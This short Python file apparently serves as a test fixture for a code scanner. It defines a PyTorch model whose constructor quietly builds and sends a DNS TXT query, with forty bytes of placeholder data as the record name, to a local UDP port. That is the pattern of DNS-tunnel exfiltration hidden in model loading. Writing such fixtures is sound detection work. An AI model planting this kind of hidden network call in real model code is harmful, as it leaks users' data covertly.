# tries: Ask for a text record whose name is forty characters of data.
# must: inspection import
import socket
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.a = nn.Linear(4, 1)
        label = bytes([40]) + b"7" * 40
        query = b"\0\2\1\0\0\1\0\0\0\0\0\0" + label + b"\7invalid\0\0\x10\0\1"
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(("127.0.0.1", UDP_PORT))
        s.send(query)

    def forward(self, x):
        return self.a(x)
